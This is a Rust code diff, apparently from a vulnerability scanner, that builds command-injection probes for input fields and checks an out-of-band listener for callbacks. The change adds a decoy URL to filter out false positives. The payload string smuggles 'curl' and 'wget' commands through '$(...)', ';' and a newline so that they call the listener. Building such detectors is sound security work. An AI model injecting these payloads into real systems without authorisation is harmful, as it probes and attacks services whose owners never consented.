@@ -65,13 +65,16 @@ async fn called_back<'s, 'p>(
     slots: Vec<&'s Slot<'p>>,
     tally: &mut Tally,
 ) -> Result<Vec<&'s Slot<'p>>, ProbeError> {
-    let mut sent: Vec<(&Slot<'_>, [String; 3], Reply)> = Vec::new();
+    let mut sent: Vec<(&Slot<'_>, [String; 4], Reply)> = Vec::new();
     let mut left = Vec::new();
     for slot in slots {
-        let tokens = [(); 3].map(|()| listener.issue(probe));
-        let [substituted, separated, next_line] = tokens.each_ref().map(|token| listener.url(token));
-        let payload =
-            format!("{}$(curl -sm2 {substituted});curl -sm2 {separated}\nwget -qT2 -O- {next_line}\n", slot.value);
+        let tokens = [(); 4].map(|()| listener.issue(probe));
+        // The decoy comes first and is an argument of nothing: what fetches every address that it reads fetches it too.
+        let [decoy, substituted, separated, next_line] = tokens.each_ref().map(|token| listener.url(token));
+        let payload = format!(
+            "{}$(: {decoy};curl -sm2 {substituted});curl -sm2 {separated}\nwget -qT2 -O- {next_line}\n",
+            slot.value
+        );
         if !slot.takes(&payload) {
             left.push(slot);
             continue;
@@ -91,7 +94,9 @@ async fn called_back<'s, 'p>(
         listener.linger(&tokens).await;
     }
     for (slot, tokens, reply) in sent {
-        let Some(hit) = tokens.iter().find_map(|token| listener.hit(token)) else {
+        let [decoy, commands @ ..] = &tokens;
+        let hit = commands.iter().find_map(|token| listener.hit(token));
+        let Some(hit) = hit.filter(|_| listener.hit(decoy).is_none()) else {
             left.push(slot);
             continue;
         };
